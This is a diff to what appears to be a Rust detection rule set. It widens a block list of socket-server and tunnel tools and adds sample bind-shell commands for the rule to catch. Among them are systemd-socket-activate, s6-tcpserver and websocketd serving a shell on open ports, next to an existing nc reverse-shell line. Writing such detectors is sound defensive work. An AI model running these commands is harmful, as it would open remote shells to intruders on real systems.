@@ -13,7 +13,19 @@ const SSH: &[&str] = &["ssh", "autossh", "dbclient", "plink"];
 const TUNNELS: &[&str] =
     &["ngrok", "bore", "chisel", "cloudflared", "wstunnel", "lt", "localtunnel", "pinggy", "frpc"];
 
-const SERVERS: &[&str] = &["sshd", "dropbear", "tcpserver", "inetd", "xinetd", "websocat", "wscat"];
+const SERVERS: &[&str] = &[
+    "sshd",
+    "dropbear",
+    "tcpserver",
+    "tcpsvd",
+    "s6-tcpserver",
+    "systemd-socket-activate",
+    "websocketd",
+    "inetd",
+    "xinetd",
+    "websocat",
+    "wscat",
+];
 
 const WINDOWS: &[&str] = &["xterm", "rxvt", "urxvt", "gnome-terminal", "konsole", "x-terminal-emulator"];
 
@@ -54,6 +66,9 @@ pub(in crate::rules::builtin) const RULES: &[Rule] = &[
             "sshd -p 2222 -o PermitRootLogin=yes",
             "websocat ws-l:0.0.0.0:4444 cmd:bash",
             "tcpserver 0 4444 /bin/sh",
+            "systemd-socket-activate -l 4444 --inetd -a /bin/sh",
+            "s6-tcpserver 0.0.0.0 4444 sh",
+            "websocketd --port=8080 bash",
             "coproc nc x.example 4444; exec bash <&${COPROC[0]} >&${COPROC[1]}",
             "DISPLAY=10.0.0.1:0 xterm",
         ],
